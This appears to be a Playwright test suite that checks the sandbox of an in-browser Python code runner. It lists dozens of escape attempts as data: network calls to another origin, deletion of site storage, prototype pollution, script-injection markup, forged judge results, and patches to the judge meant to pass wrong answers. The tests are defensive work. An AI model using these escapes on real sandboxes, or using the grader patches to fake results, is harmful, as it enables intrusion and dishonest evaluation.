"""What the reader's code cannot do, proved by what does not happen: no request, no changed data, no changed page.

Each attempt runs as the reader's own program in the page. Whether it ends in an error is of no interest; what counts is
that the other server hears nothing, that the log, the caches and the page are what they were, and that the runner works on.
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.runner_desk import PROBLEM, judged, open_problem, press, results, write
from tests.serving import Served

# What every attempt starts with: OUT is another server, SITE is this one, NATIVE the worker's own operations, which are
# still there when the names in front of them have been taken away.
HEAD = """
import js
from pyodide.ffi import create_proxy, to_js
OUT, SITE = {out!r}, {site!r}
NATIVE = js.WorkerGlobalScope.prototype
def native(name):
    return js.Object.getOwnPropertyDescriptor(NATIVE, name).get.call(js.self)
def plain(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
"""

ATTEMPTS = {
    # --- the network
    "fetch": "js.fetch(OUT + 'escape')",
    "fetch from under its name": "NATIVE.fetch.call(js.self, OUT + 'escape', plain({'mode': 'no-cors'}))",
    "fetch of this site": "NATIVE.fetch.call(js.self, SITE + 'escape')",
    "fetch of the own server": "NATIVE.fetch.call(js.self, 'http://runtime.invalid/escape')",
    "pyfetch": "import pyodide.http\nimport asyncio\nasyncio.ensure_future(pyodide.http.pyfetch(OUT + 'escape'))",
    "open_url": "import pyodide.http\npyodide.http.open_url(OUT + 'escape')",
    "urllib": "import urllib.request\nurllib.request.urlopen(OUT + 'escape', timeout=2)",
    "a socket": "import socket\ns = socket.create_connection(('127.0.0.1', {port}), 2)\ns.send(b'GET /escape HTTP/1.0\\n\\n')",
    "http.client": "import http.client\nhttp.client.HTTPConnection('127.0.0.1', {port}, timeout=2).request('GET', '/escape')",
    "XMLHttpRequest": "x = js.XMLHttpRequest.new()\nx.open('GET', OUT + 'escape', False)\nx.send()",
    "WebSocket": "js.WebSocket.new(OUT.replace('http', 'ws') + 'escape')",
    "EventSource": "js.EventSource.new(OUT + 'escape')",
    "WebTransport": "js.WebTransport.new(OUT.replace('http', 'https') + 'escape')",
    "RTCPeerConnection": "js.RTCPeerConnection.new().createDataChannel('escape')",
    "sendBeacon": "js.navigator.sendBeacon(OUT + 'escape')",
    "importScripts": "NATIVE.importScripts.call(js.self, OUT + 'escape.js')",
    "import() by run_js": "from pyodide.code import run_js\nrun_js('import(\"' + OUT + 'escape.js\")')",
    "import() by eval": "js.eval('import(\"' + OUT + 'escape.js\")')",
    "a package of another server": "import pyodide_js\npyodide_js.loadPackage(OUT + 'escape-1.0-py3-none-any.whl')",
    "a library of another server": "import pyodide_js\npyodide_js._module.loadDynamicLibrary(OUT + 'escape.so', plain({'loadAsync': True}))",
    "a font": "js.FontFace.new('escape', 'url(' + OUT + 'escape)').load()",
    "a worker of another server": "js.Worker.new(OUT + 'escape.js', plain({'type': 'module'}))",
    "a shared worker": "js.SharedWorker.new(SITE + 'escape.js')",
    "a service worker": "js.navigator.serviceWorker.register(SITE + 'escape.js')",
    # --- the site's data
    "IndexedDB": "js.indexedDB.deleteDatabase('greenroom')",
    "IndexedDB from under its name": "native('indexedDB').deleteDatabase('greenroom')",
    "Cache Storage": "js.caches.open('escape')",
    "Cache Storage from under its name": "native('caches').open('escape')\nnative('caches').delete('greenroom-snapshot-1')",
    "localStorage": "js.localStorage.setItem('escape', '1')",
    "cookies": "js.document.cookie = 'escape=1'",
    "cookieStore": "js.cookieStore.set('escape', '1')",
    "the private file system": "js.navigator.storage.getDirectory()",
    "a channel between tabs": "js.BroadcastChannel.new('greenroom').postMessage('escape')",
    "locks": "js.navigator.locks.request('greenroom-snapshot', create_proxy(lambda lock: js.Promise.new(create_proxy(lambda *_: None))))",
    # --- the page
    "the page's document": "js.parent.document.title = 'escape'",
    "the window at the top": "js.top.location = OUT + 'escape'",
    "the own location": "js.location.assign(OUT + 'escape')\njs.location.href = OUT + 'escape'",
    "a new window": "js.open(OUT + 'escape')",
    "messages to the frame": "for kind in ('spawn', 'end', 'worker-error', 'frame-error'):\n    js.postMessage(plain({'type': kind, 'id': 1}))",
    "Function": "to_js([1]).constructor.constructor('globalThis.parent.document.title = \"escape\"')()",
    "an async Function": "js.Object.getPrototypeOf(js.fetch).constructor('return 1')()",
    "a timer with code as text": "js.setTimeout('postMessage(1)', 0)",
    "prototypes": "js.Object.prototype.escaped = 'escape'\njs.Array.prototype.map = None",
    "a notification": "js.Notification.new('escape')",
    "where the reader is": "js.navigator.geolocation.getCurrentPosition(create_proxy(print))",
    "shared memory": "js.SharedArrayBuffer.new(8)",
}

# Programs that speak to the page in the judge's name. What they claim may be shown; it must not run, and must not stay.
BRIDGE = """
import gc, json
def bridge():
    for each in gc.get_objects():
        if getattr(each, "__qualname__", "") == "_make.<locals>.emit":
            return each.__closure__[0].cell_contents
BAD = "<img src=x onerror='document.title=1'><script>document.title=2</script>"
"""
FORGED = {
    "markup in what is printed": "print(BAD)",
    "markup in an error": "raise ValueError(BAD)",
    "markup in a name": "exec(compile('1/0', BAD, 'exec'))",
    "test cases that were never run": "bridge().emit('finished', json.dumps({'id': BAD, 'name': BAD, 'outcome': BAD, 'message': BAD}))",
    "events of no shape": (
        "for data in (None, 7, [], 'text', {'total': BAD}):\n"
        "    for event in ('collected', 'started', 'finished', 'stdout', 'ready', '__proto__'):\n"
        "        bridge().emit(event, json.dumps(data))"
    ),
    "a flood of events": "send = bridge().emit\nfor n in range(30_000):\n    send('stdout', '7')",
}
RESULTS = {
    "a verdict of no kind": {
        "verdict": "constructor",
        "message": {"a": 1},
        "cases": "none",
        "total": "<b>",
        "line": "x",
        "seconds": [],
    },
    "cases of no shape": {
        "verdict": "accepted",
        "cases": [None, 7, "x", {"name": ["<b>"], "outcome": "__proto__", "ms": {}}],
    },
    "nothing": None,
}
# Takes the place of the function that writes the judge's answer, once.
FORGE = """
import gc
for each in gc.get_objects():
    if getattr(each, "__qualname__", "") == "_make.<locals>.handle":
        cell = dict(zip(each.__code__.co_freevars, each.__closure__))["dumps"]
real = cell.cell_contents
def forge(answer):
    cell.cell_contents = real
    return real({"v": 1, "id": answer["id"], "result": RESULT})
cell.cell_contents = forge
"""
# Answers for all requests to come, by the port's own method.
ANSWER_ALL = """
real = js.MessagePort.prototype.postMessage
def answer(this, *_):
    for number in range(1, 400):
        real.call(this, plain({"v": 1, "id": number, "result": {"verdict": "accepted", "total": 1}}))
js.MessagePort.prototype.postMessage = create_proxy(answer, capture_this=True)
"""

STATE = """async () => {
  const open = () => new Promise((resolve, reject) => {
    const request = indexedDB.open("greenroom");
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
  const all = (store) => new Promise((resolve) => { const request = store.getAll(); request.onsuccess = () => resolve(request.result); });
  const database = await open();
  const log = await all(database.transaction("events").objectStore("events"));
  database.close();
  const kept = [];
  for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) kept.push(name + " " + request.url);
  return {
    log: JSON.stringify(log), databases: (await indexedDB.databases()).map((each) => each.name).sort(),
    kept: kept.sort(), local: JSON.stringify({...localStorage}), cookie: document.cookie, title: document.title, address: location.href,
    frames: document.querySelectorAll("iframe").length, images: document.querySelectorAll("code-runner img, code-runner script").length,
    polluted: String(({}).escaped), map: typeof [].map, workers: (await navigator.serviceWorker.getRegistrations()).length,
  };
}"""


@dataclass
class Other:
    """A server of another origin, and all that was ever asked of it."""

    port: int
    heard: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        """Its address, with a slash at the end."""
        return f"http://127.0.0.1:{self.port}/"


@pytest.fixture(scope="module")
def other() -> Iterator[Other]:
    """A server that answers everything, to any origin, and writes it down."""
    found = Other(0)

    class Handler(BaseHTTPRequestHandler):
        def parse_request(self) -> bool:
            """Note whatever arrives, well formed or not."""
            found.heard.append(bytes(getattr(self, "raw_requestline", b"")).decode("latin-1").strip())
            return super().parse_request()

        def do_GET(self) -> None:
            """Answer with a script, for anyone."""
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, *_args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_address[1]
    Thread(target=server.serve_forever, daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


@dataclass
class Desk:
    """One problem's page, used for all attempts, with the site's state before them."""

    page: Page
    other: Other
    served: Served
    opened: list[str]
    before: dict[str, Any]

    def head(self) -> str:
        """What every attempt starts with."""
        return HEAD.format(out=self.other.url, site=self.served.url)

    def run(self, code: str) -> str:
        """Run a program as the reader would, and give the verdict."""
        write(self.page, code)
        return press(self.page, "Run")

    def judged_wrong(self) -> None:
        """Test a wrong solution, which must fail; it is in the log from then on."""
        assert judged(self.page, "def busiest_window(timestamps, limit):\n    return 'wrong'\n") == "failed", results(
            self.page
        )
        expect(self.page.locator(".gr-last")).to_contain_text("Failed")

    def unchanged(self) -> None:
        """Fail unless nothing has left the page and the site is what it was."""
        self.page.wait_for_timeout(50)  # what was asked for without waiting has left by then
        assert self.other.heard == [], "another server was reached"
        assert [path for path, _ in self.served.requests if "escape" in path] == [], "this site's server was reached"
        assert self.opened == [], "a window was opened"
        assert self.page.evaluate(STATE) == self.before

    def usable(self) -> None:
        """Fail unless the runner still runs code."""
        assert self.run("print(6 * 7)\n") == "finished"
        assert "42" in results(self.page)


@pytest.fixture(scope="module")
def desk(browser: Browser, served: Served, other: Other) -> Iterator[Desk]:
    """A page with an attempt in its log, kept for the time without a network, and its Python ready."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(20_000)
    # Nothing is put away while the state is compared.
    context.add_init_script("Object.defineProperty(navigator, 'deviceMemory', { value: 1 })")
    page = context.new_page()
    open_problem(page, served.url + PROBLEM)
    assert judged(page, "def busiest_window(timestamps, limit):\n    return None\n") == "failed"
    page.wait_for_selector("html[data-offline=ready]", timeout=90_000)
    opened: list[str] = []
    context.on("page", lambda new: opened.append(new.url))
    page.wait_for_timeout(500)
    yield Desk(page, other, served, opened, page.evaluate(STATE))
    context.close()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_changes_nothing_outside(desk: Desk, name: str) -> None:
    attempt = ATTEMPTS[name].replace("{port}", str(desk.other.port))
    tried = "\n".join(f"    {line}" for line in attempt.splitlines())
    code = f"{desk.head()}\ntry:\n{tried}\n    print('done')\nexcept BaseException as error:\n    print('refused', type(error))\n"
    assert desk.run(code) == "finished", results(desk.page)
    assert "done" in results(desk.page) or "refused" in results(desk.page)
    desk.unchanged()


def test_the_runner_is_usable_after_all_attempts(desk: Desk) -> None:
    desk.usable()
    desk.unchanged()


@pytest.mark.parametrize("name", FORGED)
def test_what_code_sends_to_the_page_is_shown_as_text_and_harms_nothing(desk: Desk, name: str) -> None:
    desk.run(BRIDGE + FORGED[name])
    desk.unchanged()
    desk.usable()


@pytest.mark.parametrize("name", RESULTS)
def test_a_forged_result_fools_the_run_it_is_in_and_breaks_nothing(desk: Desk, name: str) -> None:
    errors: list[str] = []
    desk.page.on("pageerror", lambda error: errors.append(str(error)))
    desk.run(FORGE.replace("RESULT", repr(RESULTS[name])))
    desk.unchanged()
    assert errors == []
    desk.usable()


def test_code_cannot_answer_for_the_runs_to_come(desk: Desk) -> None:
    desk.run(desk.head() + ANSWER_ALL)
    desk.judged_wrong()


CHEATS = {
    "the judge": "import greenroom.judging.testing as judge\njudge.verdict_of = lambda *_: 'accepted'\n",
    "the judge's code": "import greenroom.judging.testing as judge\nfake = lambda cases, total: 'accepted'\njudge.verdict_of.__code__ = fake.__code__\n",
    "pytest": "import pytest\npytest.CallInfo.from_call = classmethod(lambda *_, **__: None)\n",
    "a builtin": "import builtins\nbuiltins.len = lambda _: 0\n",
    "the standard library": "import time\ntime.perf_counter = lambda: 0\n",
}


@pytest.mark.parametrize("name", CHEATS)
def test_code_that_changes_the_judge_is_not_in_the_next_run(desk: Desk, name: str) -> None:
    desk.run(CHEATS[name])
    desk.judged_wrong()
    expect(desk.page.locator(".gr-case").first).to_be_visible()


def test_nothing_of_a_run_survives_stop(desk: Desk) -> None:
    page = desk.page
    later = "js.setInterval(create_proxy(lambda: print('ghost')), 50)\n"
    write(page, desk.head() + later + "while True: pass\n")
    page.get_by_role("button", name="Run").click()
    expect(page.get_by_role("status").filter(has_text="Running")).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    page.wait_for_selector("code-runner[data-verdict=stopped]")
    page.wait_for_timeout(300)
    assert "ghost" not in results(page)
    desk.usable()


def test_a_worker_that_closes_itself_is_ended_by_stop(desk: Desk) -> None:
    page = desk.page
    write(page, desk.head() + "js.self.close()\nwhile True: pass\n")
    page.get_by_role("button", name="Run").click()
    page.wait_for_timeout(500)
    page.get_by_role("button", name="Stop").click()
    page.wait_for_selector("code-runner[data-verdict=stopped]")
    desk.usable()
